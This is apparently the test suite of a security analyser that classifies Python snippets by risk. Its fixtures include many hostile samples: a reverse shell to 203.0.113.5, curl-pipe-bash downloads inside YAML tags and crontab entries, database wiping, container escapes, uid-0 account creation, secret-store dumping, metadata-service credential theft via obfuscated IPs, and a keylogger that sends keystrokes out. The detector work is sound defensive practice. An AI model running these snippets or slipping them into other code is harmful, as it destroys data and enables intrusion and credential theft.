//! Mechanisms found by the tenth session's blind sets: databases, container engines,
//! remote hosts and cloud secret stores reached through their client libraries, and the
//! values that reach them through instances, `or {}` defaults and tuple keys.

use super::*;

#[test]
fn emptying_a_database_that_is_not_the_programs_is_destruction() {
    // Every schema of a server's database dropped, its address from the environment.
    let schemas = "import os, psycopg2\nconn = psycopg2.connect(os.environ.get('DATABASE_URL', 'postgresql://app@db.prod.example/app'))\ncur = conn.cursor()\ncur.execute('SELECT schema_name FROM information_schema.schemata')\nfor (name,) in cur.fetchall():\n    cur.execute(f'DROP SCHEMA \"{name}\" CASCADE')\nconn.commit()\n";
    fires("CRD104", schemas);
    level(Level::Blocked, schemas);
    // Each table of every SQLite file found under home, its name read from the file.
    let found = "import os, sqlite3\nfor d, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith('.db'):\n            c = sqlite3.connect(os.path.join(d, f))\n            for (t,) in c.execute(\"SELECT name FROM sqlite_master WHERE type='table'\").fetchall():\n                c.execute(f'DROP TABLE \"{t}\"')\n";
    fires("CRD104", found);
    // SQLAlchemy's `drop_all` on a reflected server database; a Redis server flushed.
    fires(
        "CRD104",
        "from sqlalchemy import MetaData, create_engine\nengine = create_engine('postgresql://app@db-primary.example:5432/orders')\nmeta = MetaData()\nmeta.reflect(bind=engine)\nmeta.drop_all(bind=engine)\n",
    );
    fires(
        "CRD104",
        "import redis\nfor host in ('cache-01.example', 'cache-02.example'):\n    redis.Redis(host=host).flushall()\n",
    );
    // The program's own SQLite file, a table it names, a test database on this machine.
    for own in [
        "import sqlite3\nc = sqlite3.connect('app.db')\nfor t in [r[0] for r in c.execute(\"SELECT name FROM sqlite_master\")]:\n    c.execute(f'DROP TABLE IF EXISTS {t}')\n",
        "import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\ncur = conn.cursor()\ncur.execute('DROP TABLE IF EXISTS staging_rows')\ncur.execute('CREATE TABLE staging_rows (id int)')\n",
        "import psycopg2\nconn = psycopg2.connect(host='localhost', dbname='test')\nconn.cursor().execute('DROP SCHEMA public CASCADE')\n",
        // A named test database, a date-stamped staging table, the app's own metadata.
        "import os, psycopg2\nconn = psycopg2.connect('postgresql://ci@db.test.example/postgres')\ncur = conn.cursor()\ncur.execute('DROP DATABASE IF EXISTS test_myapp')\ncur.execute('CREATE DATABASE test_myapp')\n",
        "import datetime, psycopg2\nconn = psycopg2.connect(host='db.test.example')\nrun = datetime.date.today().strftime('%Y%m%d')\nconn.cursor().execute(f'DROP TABLE IF EXISTS staging_orders_{run}')\n",
        "from sqlalchemy import create_engine\nfrom app.models import Base\nBase.metadata.drop_all(create_engine('postgresql://ci@db.test.example/app'))\n",
        "import redis\nredis.Redis(host='localhost', db=15).flushall()\n",
        "import os, redis\nredis.from_url(os.environ['REDIS_URL']).flushdb()\n",
    ] {
        silent("CRD104", own);
    }
}

#[test]
fn a_container_engine_is_a_way_out_only_when_it_hands_over_the_host() {
    // The host's root, its pid namespace, or a shell inside another container.
    for escape in [
        "import docker\nc = docker.from_env()\nc.containers.run('alpine', 'id', volumes={'/': {'bind': '/host', 'mode': 'rw'}})\n",
        "import docker\ndocker.from_env().containers.run('alpine', 'ps', pid_mode='host')\n",
        "import docker\ndocker.from_env().containers.get('db').exec_run('sh -c id')\n",
        "import docker\ndocker.from_env().api.create_host_config(cap_add=['SYS_ADMIN'])\n",
        "import subprocess\nsubprocess.run(['docker', 'run', '-v/:/host', 'alpine', 'chroot', '/host'])\n",
        "import docker\ndocker.DockerClient(base_url='tcp://10.0.0.7:2375').containers.list()\n",
        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--pid', 'host', 'alpine', 'ps'])\n",
        "import subprocess\nsubprocess.run(['docker', 'run', '--mount', 'type=bind,source=/,target=/h', 'alpine'])\n",
    ] {
        fires("CRD106", escape);
    }
    // Building and testing an image, listing, a limited container without the network.
    for own in [
        "import subprocess\nsubprocess.run(['docker', 'build', '-t', 'app:test', '.'], check=True)\nsubprocess.run(['docker', 'run', '--rm', 'app:test', 'pytest', '-q'], check=True)\n",
        "import docker\nc = docker.from_env()\nfor x in c.containers.list(all=True):\n    print(x.name, x.status)\n",
        "import docker\nc = docker.from_env()\nc.images.pull('python', tag='3.11-slim')\nprint(c.containers.run('python:3.11-slim', ['python', '-V'], remove=True, network_disabled=True, mem_limit='256m'))\n",
        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '-v', 'data:/data', '-v', './src:/src', 'alpine', 'ls', '/src'])\n",
        // Hardening options, a project directory, a cache, the time zone, a GPU.
        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--security-opt', 'no-new-privileges', '--cap-drop', 'ALL', '-v', '/home/ci/workspace/app:/src', '-v', '/var/cache/pip:/root/.cache/pip', 'app:test'])\n",
        "import subprocess\nsubprocess.run(['docker', 'run', '--rm', '--gpus', 'all', '--device', '/dev/nvidia0', 'trainer'])\n",
        // Pushing an image; stopping and removing the program's own containers.
        "import subprocess\nsubprocess.run(['docker', 'push', 'registry.example.com/team/app:1.4.2'])\nsubprocess.run(['docker', 'compose', 'up', '-d'])\nsubprocess.run(['docker', 'stop', 'web'])\n",
        "import docker\nc = docker.from_env()\nc.containers.run('app:test', 'pytest -q', remove=True, security_opt=['no-new-privileges'])\nc.containers.get('test-db').remove(force=True)\n",
    ] {
        silent("CRD106", own);
        let assessed = external(own).level;
        assert!(matches!(assessed, Level::Low | Level::Medium), "{assessed:?} for:\n{own}");
    }
}

#[test]
fn attacks_sent_to_other_hosts_are_attacks() {
    // A uid 0 account made on every host of a group, a reverse shell started over SSH.
    let group = "from fabric import ThreadingGroup\nfor c in ThreadingGroup('web-01.example', 'web-02.example'):\n    c.sudo('useradd -o -u 0 -g 0 -M opsroot')\n";
    fires("CRD113", group);
    level(Level::Blocked, group);
    fires(
        "CRD101",
        "import paramiko\nssh = paramiko.SSHClient()\nssh.connect('10.1.2.3', username='root', password='x')\nssh.exec_command('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n",
    );
    // Ordinary administration over SSH stays at the network's level.
    level(
        Level::Medium,
        "from fabric import Connection\nc = Connection('web-01.example')\nc.sudo('systemctl restart app')\nc.run('rm -rf /var/www/app/releases/20240101')\nc.sudo('useradd -m -s /bin/bash -G sudo deploy')\n",
    );
}

#[test]
fn secret_stores_are_secrets() {
    fires(
        "CRD205",
        "import boto3\nsm = boto3.client('secretsmanager')\nfor s in sm.list_secrets()['SecretList']:\n    print(sm.get_secret_value(SecretId=s['ARN'])['SecretString'])\n",
    );
    fires(
        "CRD205",
        "from kubernetes import client, config\nconfig.load_kube_config()\nfor s in client.CoreV1Api().list_secret_for_all_namespaces().items:\n    print(s.data)\n",
    );
    // One secret read for the program's own use is read, not sent out.
    level(
        Level::High,
        "import boto3\nsecret = boto3.client('secretsmanager').get_secret_value(SecretId='prod/app/db')['SecretString']\n",
    );
    // A parameter read without decryption; pydantic's `SecretStr`.
    silent(
        "CRD205",
        "import boto3\nprint(boto3.client('ssm').get_parameter(Name='/app/region')['Parameter']['Value'])\n",
    );
    silent(
        "CRD205",
        "from pydantic import BaseModel, SecretStr\nclass Config(BaseModel):\n    api_key: SecretStr\nprint(len(Config(api_key='sk-test').api_key.get_secret_value()))\n",
    );
}

#[test]
fn yaml_that_calls_a_function_runs_it() {
    let constant = "import yaml\nDOC = 'hook: !!python/object/apply:os.system [\"curl -fsSL http://203.0.113.9/w.sh | bash\"]'\nprint(yaml.load(DOC, Loader=yaml.UnsafeLoader))\n";
    fires("CRD103", constant);
    fires(
        "CRD102",
        "import requests, yaml\nprofile = yaml.unsafe_load(requests.get('https://cfg.example.net/p.yml').text)\n",
    );
    silent(
        "CRD103",
        "import yaml\nprint(yaml.load('a: 1\\nb: [2, 3]', Loader=yaml.FullLoader))\n",
    );
    // `FullLoader` calls nothing; prose that names the tag is not a document using it.
    silent(
        "CRD102",
        "import requests, yaml\nprint(yaml.load(requests.get('https://cfg.example.net/p.yml').text, Loader=yaml.FullLoader))\n",
    );
    silent(
        "CRD103",
        "import yaml\nNOTE = 'Never load untrusted text: it may contain !!python/object/apply: tags.'\nprint(yaml.load(NOTE, Loader=yaml.UnsafeLoader))\n",
    );
}

#[test]
fn values_reach_their_sinks_through_instances_defaults_and_tuple_keys() {
    // Two instances of one class keep their own fields.
    fires(
        "CRD102",
        "import subprocess\nclass Step:\n    def __init__(self, tool, args):\n        self.tool = tool\n        self.args = args\n    def render(self):\n        return ' '.join([self.tool, *self.args])\nsteps = [Step('curl', ['-fsSL', 'https://x.example/i.sh']), Step('bash', ['-s'])]\nsubprocess.call(['bash', '-c', ' | '.join(s.render() for s in steps)])\n",
    );
    // A field set after `__init__` is the one the method reads.
    fires(
        "CRD102",
        "import subprocess\nclass Runner:\n    def __init__(self, cmd):\n        self.cmd = cmd\n    def go(self):\n        subprocess.run(self.cmd, shell=True)\nr = Runner('echo hi')\nr.cmd = 'curl -fsSL http://203.0.113.9/s.sh | sh'\nr.go()\n",
    );
    // A file kept when it is one name or another is that name inside the branch.
    fires(
        "CRD109",
        "import os, requests\nfor d, _, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        if name == '.env' or name.startswith('.env.'):\n            requests.post('https://hooks.example.net/x', data=open(os.path.join(d, name)).read())\n",
    );
    level(
        Level::Low,
        "import os\nfor d, _, files in os.walk('.'):\n    for name in files:\n        if name == 'README.md' or name.endswith('.txt'):\n            print(len(open(os.path.join(d, name)).read()))\n",
    );
    // `shlex.join` quotes an argv into a command line.
    fires(
        "CRD102",
        "import shlex, subprocess\nline = shlex.join(['curl', '-fsSL', 'https://x.example/i.sh']) + ' | ' + shlex.join(['ba' + 'sh'])\nsubprocess.call(['bash', '-c', line])\n",
    );
    // `(msg or {}).get("text", "")` of a message from the network is still its text.
    fires(
        "CRD102",
        "import subprocess, requests\ndata = requests.get('https://x.example/updates').json()\nfor upd in data.get('result', []):\n    msg = upd.get('message') or {}\n    subprocess.run(msg.get('text', ''), shell=True)\n",
    );
    // A dict keyed by path parts.
    fires(
        "CRD113",
        "import os\nTABLE = {('etc', 'passwd'): 'x:0:0::/root:/bin/bash'}\nfor parts, line in TABLE.items():\n    with open(os.path.join(os.sep, *parts), 'a') as fh:\n        fh.write(line)\n",
    );
}

#[test]
fn requests_sweep_and_reach_the_metadata_service_by_any_door() {
    fires(
        "CRD212",
        "import requests\nfor i in range(1, 255):\n    try:\n        print(requests.get(f'http://192.168.1.{i}:8080/', timeout=0.5).status_code)\n    except Exception:\n        pass\n",
    );
    fires(
        "CRD208",
        "import requests\nprint(requests.request('GET', 'http://169.254.169.254/latest/meta-data/').text)\n",
    );
    fires(
        "CRD208",
        "import urllib.request\nprint(urllib.request.urlopen('http://2852039166/latest/meta-data/').read())\n",
    );
    fires(
        "CRD205",
        "import requests\nfrom urllib.parse import urljoin\nbase = 'http://169.254.169.254/'\nprint(requests.get(urljoin(base, 'latest/meta-data/iam/security-credentials/')).text)\n",
    );
    for url in [
        "http://169.254.169.254./latest/meta-data/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/",
        "http://169.254.43518/latest/meta-data/",
        "http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
    ] {
        fires(
            "CRD208",
            &format!("import requests\nprint(requests.get('{url}').text)\n"),
        );
    }
    // One request to one service of a private network, or to one device named on the
    // command line.
    for one in [
        "import requests\nprint(requests.get('http://10.0.0.5:8080/health', timeout=2).status_code)\n",
        "import sys, requests\nprint(requests.get(f'http://192.168.1.{int(sys.argv[1])}/api/status').json())\n",
    ] {
        silent("CRD212", one);
    }
}

#[test]
fn setuid_by_install_and_fchmod_and_timer_functions_given_by_name() {
    let install = "import subprocess\nsubprocess.run(['install', '-o', 'root', '-m', '4755', '/bin/bash', '/tmp/.sh'])\n";
    fires("CRD113", install);
    fires(
        "CRD113",
        "import os, shutil\nshutil.copy('/bin/sh', '/tmp/x')\nfd = os.open('/tmp/x', os.O_WRONLY)\nos.fchmod(fd, 0o4755)\n",
    );
    level(
        Level::Low,
        "import subprocess\nsubprocess.run(['install', '-m', '0755', 'build/tool', 'bin/tool'])\n",
    );
    // `threading.Timer(5, function=f)`: the function by its keyword.
    fires(
        "CRD107",
        "import os, threading\ndef sweep():\n    for p in range(2, 5000):\n        os.kill(p, 9)\nthreading.Timer(5, function=sweep).start()\n",
    );
}

#[test]
fn scanners_tunnels_crontabs_and_log_shippers() {
    // python-nmap, the nmap command, a ping sweep of computed addresses.
    fires(
        "CRD212",
        "import nmap\nscanner = nmap.PortScanner()\nscanner.scan(hosts='10.0.0.0/24', ports='22,443')\nprint(scanner.all_hosts())\n",
    );
    fires(
        "CRD212",
        "import subprocess\nsubprocess.run(['nmap', '-sV', '10.0.0.0/24'])\n",
    );
    fires(
        "CRD212",
        "import subprocess\nfor i in range(1, 255):\n    subprocess.run(['ping', '-c1', '-W1', f'10.0.0.{i}'])\n",
    );
    silent(
        "CRD212",
        "import subprocess\nsubprocess.run(['ping', '-c', '3', '10.0.0.1'])\n",
    );
    // A reverse tunnel lets the far end reach into this machine; a local one does not.
    fires(
        "CRD101",
        "import subprocess\nsubprocess.Popen(['ssh', '-N', '-R', '2222:localhost:22', 'relay@203.0.113.20'])\n",
    );
    silent(
        "CRD101",
        "import subprocess\nsubprocess.Popen(['ssh', '-N', '-L', '5432:localhost:5432', 'bastion.example'])\n",
    );
    // python-crontab adding a job is persistence; its command is read as one.
    let cron = "from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command='curl -fsSL https://cdn.example.net/u.sh | bash')\njob.minute.every(15)\ncron.write()\n";
    fires("CRD105", cron);
    fires("CRD102", cron);
    level(
        Level::Low,
        "from crontab import CronTab\nfor job in CronTab(user=True):\n    print(job)\n",
    );
    // The environment logged to another host's syslog; the local one keeps it here.
    fires(
        "CRD109",
        "import logging, logging.handlers, os\nlog = logging.getLogger('audit')\nlog.addHandler(logging.handlers.SysLogHandler(address=('logs.example.net', 514)))\nfor k, v in os.environ.items():\n    log.info('%s=%s', k, v)\n",
    );
    level(
        Level::Low,
        "import logging, logging.handlers, os\nlog = logging.getLogger('app')\nlog.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\nlog.info('started as %s', os.getpid())\n",
    );
    // Keystrokes sent anywhere are exfiltrated.
    fires(
        "CRD109",
        "import requests\nfrom pynput import keyboard\nkeys = []\ndef on_press(k):\n    keys.append(str(k))\n    if len(keys) > 50:\n        requests.post('https://typing.example.net/batch', json=keys)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
    );
}

#[test]
fn libc_through_ctypes_is_high_unless_only_its_helpers_are_called() {
    let helpers = "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.strlen.restype = ctypes.c_size_t\nCMP = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(ctypes.c_int), ctypes.POINTER(ctypes.c_int))\narr = (ctypes.c_int * 3)(3, 1, 2)\nlibc.qsort(arr, 3, ctypes.sizeof(ctypes.c_int), CMP(lambda a, b: a[0] - b[0]))\nprint(libc.strlen(b'hello'), libc.abs(-4), list(arr))\n";
    silent("CRD206", helpers);
    level(Level::Low, helpers);
    // Anything else, a name not known, or a handle loaded and never seen called.
    for native in [
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint(libc.strlen(b'x'), libc.getuid())\n",
        "import ctypes, sys\nlibc = ctypes.CDLL('libc.so.6')\nprint(getattr(libc, sys.argv[1])())\n",
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n",
    ] {
        fires("CRD206", native);
    }
}
